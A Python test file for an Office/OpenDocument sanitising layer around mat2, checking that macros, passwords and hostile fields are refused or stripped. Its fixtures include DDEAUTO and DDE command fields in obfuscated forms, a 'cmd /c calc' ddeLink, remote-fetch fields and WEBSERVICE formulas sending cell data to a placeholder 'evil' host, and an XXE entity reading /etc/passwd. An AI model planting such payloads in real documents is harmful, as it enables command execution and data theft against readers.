"""Office documents on both sides of mat2, without it: what is refused, and what its work is mended to."""

import io
import warnings
import zipfile
from contextlib import suppress

import pytest

from core.files.exits import LOCKED, MACROS, NOT_WHOLE, UNKNOWN_TYPE, Stop
from core.files.office import check_office
from core.files.rewriting import finished, prepared
from tests.core.files.documents import unpacked, written_docx, written_odt
from tests.core.files.samples import archive, docx

_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def relationships(*told: tuple[str, str]) -> bytes:
    ones = "".join(f'<Relationship Id="{name}" Type="x" Target="{target}"/>' for name, target in told)
    space = "http://schemas.openxmlformats.org/package/2006/relationships"
    return f'<Relationships xmlns="{space}">{ones}</Relationships>'.encode()


def cleaned_sheet() -> bytes:
    """As mat2 leaves it: a table and the printer's settings are gone, and are still spoken of."""
    return archive(
        {
            "[Content_Types].xml": b'<Types xmlns="t"><Override PartName="/xl/tables/table1.xml"/></Types>',
            "xl/_rels/document.xml.rels": relationships(
                ("rId1", "worksheets/sheet1.xml"), ("rId2", "theme/theme1.xml")
            ),
            "xl/workbook.xml": f'<workbook xmlns="{_S}"><sheets/></workbook>'.encode(),
            "xl/worksheets/_rels/sheet1.xml.rels": relationships(
                ("a", "../tables/table1.xml"), ("b", "../printer.bin")
            ),
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{_S}" xmlns:r="{_R}"><sheetData><c>said</c></sheetData>'
            '<pageSetup orientation="landscape" r:id="b"/><tableParts count="1"><tablePart r:id="a"/></tableParts>'
            "</worksheet>".encode(),
        }
    )


def test_a_sheet_speaks_of_nothing_that_is_gone() -> None:
    made = finished(cleaned_sheet(), "xlsx")
    with zipfile.ZipFile(io.BytesIO(made)) as sheet:
        assert "xl/_rels/workbook.xml.rels" in sheet.namelist()
    shown = unpacked(made)
    assert not [word for word in (b"table", b"theme", b"printer", b":id=", b"document.xml") if word in shown]
    assert not [word for word in (b"said", b'orientation="landscape"', b"worksheets/sheet1.xml") if word not in shown]


def test_what_has_programs_or_a_password_is_refused() -> None:
    field = b"<w:x><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\x</w:instrText></w:x>"
    manifest = archive(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": b"<x/>",
            "META-INF/manifest.xml": b"<manifest:encryption-data/>",
        }
    )
    refused = {
        "macros by name": (docx(**{"word/vbaProject.bin": b"x"}), MACROS),
        "macros by type": (docx(**{"[Content_Types].xml": b"application/vnd.ms-word.document.macroEnabled"}), MACROS),
        "a field in pieces": (docx(**{"word/document.xml": field}), MACROS),
        "a password": (manifest, LOCKED),
        "a drawing": (
            archive({"mimetype": b"application/vnd.oasis.opendocument.graphics", "content.xml": b"x"}),
            UNKNOWN_TYPE,
        ),
    }
    told = {}
    for what, (content, _) in refused.items():
        with pytest.raises(Stop) as stop:
            check_office(content)
        told[what] = stop.value.code
    assert told == {what: code for what, (_, code) in refused.items()}


def word(inside: str, encoding: str = "utf-8") -> bytes:
    space = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    whole = f'<w:document xmlns:w="{space}"><w:body><w:p><w:r>{inside}</w:r></w:p></w:body></w:document>'
    return f'<?xml version="1.0" encoding="{encoding}"?>{whole}'.encode(encoding)


def workbook(sheet: str) -> bytes:
    return archive(
        {
            "[Content_Types].xml": b'<Types xmlns="t"/>',
            "xl/workbook.xml": f'<workbook xmlns="{_S}"/>'.encode(),
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{_S}">{sheet}</worksheet>'.encode(),
        }
    )


def sheet(inside: str) -> bytes:
    spaces = {"office": "o", "style": "s", "xlink": "http://www.w3.org/1999/xlink", "table": "t"}
    names = " ".join(f'xmlns:{prefix}="{name}"' for prefix, name in spaces.items())
    mime = b"application/vnd.oasis.opendocument.spreadsheet"
    return archive({"mimetype": mime, "content.xml": f"<office:x {names}>{inside}</office:x>".encode()})


def twice(first: bytes, last: bytes) -> bytes:
    """An archive from which some programs read the first of two parts of one name, and some the last."""
    written = io.BytesIO(docx())
    with zipfile.ZipFile(written, "a") as made, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for content in (first, last):
            made.writestr("word/document.xml", content)
    return written.getvalue()


def test_a_field_that_starts_a_program_is_found_however_it_is_written() -> None:
    run = "<w:instrText>{}</w:instrText>"
    ways = {
        "an entity": docx(**{"word/document.xml": word(run.format("D&#68;EAUTO c"))}),
        "raw text": docx(**{"word/document.xml": word(run.format("<![CDATA[DDEAUTO c]]>"))}),
        "a comment": docx(**{"word/document.xml": word(run.format("D<!-- -->DEAUTO c"))}),
        "an attribute": docx(**{"word/document.xml": word('<w:fldSimple w:instr="D&#68;EAUTO c"/>')}),
        "wide characters": docx(**{"word/document.xml": word(run.format("DDEAUTO c"), "utf-16")}),
        "a part that is there twice": twice(word(run.format("DDEAUTO c")), word("<w:t/>")),
        "another part": docx(**{"other/main.bin": word(run.format("DDEAUTO c"))}),
        "a formula": sheet(
            '<table:table-cell table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)"/>'
        ),
        "a link of a sheet": workbook('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
    }
    taken = []
    for way, content in ways.items():
        with suppress(Stop):
            check_office(content)
            taken.append(way)
    assert taken == []


def test_a_copy_fetches_nothing_from_elsewhere_however_that_is_written() -> None:
    fetched = 'INCLUDEPICTURE "http://evil/x"'
    run = "<w:instrText>{}</w:instrText>"
    mark = '<w:fldChar w:fldCharType="{}"/>'
    page = mark.format("begin") + run.format(" PAGE ") + mark.format("end")
    texts = [
        run.format('INCLUDEPICTURE "http:/') + run.format('/evil/x"'),
        run.format("INCLUDEPICTURE &quot;http:&#47;/evil/x&quot;"),
        f"<w:fldSimple w:instr='{fetched}'/>",
        mark.format("begin") + run.format("INCLUDETEXT ") + page + run.format('"evil"') + mark.format("end"),
        '<v:imagedata xmlns:v="urn:v" src="ht&#10;tp://evil/x"/>',
    ]
    copies = [
        finished(docx(**{"[Content_Types].xml": b"<Types/>", "word/document.xml": word(page + one)}), "docx")
        for one in texts
    ]
    assert all(b" PAGE " in unpacked(one) for one in copies)
    copies += [
        finished(workbook('<c><f>_xlfn.WEBSERVICE("http://evil/"&amp;A1)</f><v>17</v></c>'), "xlsx"),
        finished(workbook('<definedName name="x">WEBSERVICE("http:"&amp;"/"&amp;"/evil")</definedName>'), "xlsx"),
        finished(sheet('<style:background-image xlink:href="http&#58;//evil/a.png"/>'), "ods"),
        finished(sheet('<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil/&quot;)"/>'), "ods"),
    ]
    assert [number for number, one in enumerate(copies) if b"evil" in unpacked(one)] == []
    assert b"<f>17</f><v>17</v>" in unpacked(copies[5]).replace(b"ns0:", b"").replace(b"x:", b"")


def test_a_part_that_names_outside_entities_gets_no_copy() -> None:
    evil = b'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'
    assert prepared(docx(**{"word/document.xml": evil}), "docx").endswith(b" 0\n")
    with pytest.raises(Stop, match=str(NOT_WHOLE)):
        finished(docx(**{"word/document.xml": evil}), "docx")


def test_what_is_made_ready_for_mat2_is_the_same_document() -> None:
    for content, code in ((written_docx(), b"docx"), (written_odt(), b"odt")):
        line, _, made = prepared(content, "docx").partition(b"\n")
        kind, _, size = line.split()
        assert (kind, int(size)) == (code, len(made))
        assert check_office(made)[0] == code.decode()
